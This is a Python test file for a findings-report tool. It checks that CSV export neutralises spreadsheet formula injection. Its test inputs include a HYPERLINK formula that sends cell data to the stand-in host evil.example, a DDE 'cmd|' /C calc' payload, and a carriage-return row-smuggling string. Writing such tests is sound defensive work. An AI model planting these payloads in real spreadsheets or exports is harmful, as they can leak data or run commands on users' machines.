"""The findings CSV: every cell a spreadsheet would run as a formula starts with an apostrophe."""

from __future__ import annotations

import csv
import io

import pytest

from tracehound.report.serialize import FINDING_COLUMNS, findings_csv, safe_cell

SHA = "b" * 64
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\x00=1+1")


def finding(text: str) -> dict:
    return {"id": "f1", "time": "2026-04-12T14:00:00Z", "severity": "high",
            "category": "exfiltration", "rule": "TH-X", "tool": "t", "session": text,
            "step": 3, "actor": text, "target": text, "title": text, "statement": text,
            "refs": [{"sha256": SHA, "locator": "line 3"}], "techniques": ["T1530"]}


@pytest.mark.parametrize("formula", FORMULAS, ids=range(len(FORMULAS)))
def test_formula_cells_are_defused(formula):
    rows = list(csv.DictReader(io.StringIO(findings_csv([finding(formula)]), newline="")))
    assert list(rows[0]) == list(FINDING_COLUMNS)
    for column in ("session", "actor", "target", "title", "statement"):
        assert rows[0][column] == "'" + formula, column


def test_plain_cells_and_values_are_kept():
    assert safe_cell("kepler-sre-agent-01") == "kepler-sre-agent-01"
    assert safe_cell(None) == "" and safe_cell(3) == "3" and safe_cell(-3) == "'-3"
    row = list(csv.DictReader(io.StringIO(findings_csv([finding("a = b")]), newline="")))[0]
    assert row["statement"] == "a = b" and row["refs"] == f"{SHA}:line 3"
    assert row["techniques"] == "T1530" and row["step"] == "3"


def test_a_carriage_return_inside_a_cell_cannot_start_a_formula_row():
    text = findings_csv([finding("quarterly report\r=cmd|' /C calc'!A0")])
    assert "\"quarterly report\r=cmd|' /C calc'!A0\"" in text
    # A reader that ends rows at a bare CR (as spreadsheets do) still sees two rows.
    rows = list(csv.reader(io.StringIO(text.replace("\r", "\n"), newline="")))
    assert len(rows) == 2 and not any(cell.startswith("=") for row in rows for cell in row)
    assert text.endswith("T1530\n") and "\r\n" not in text
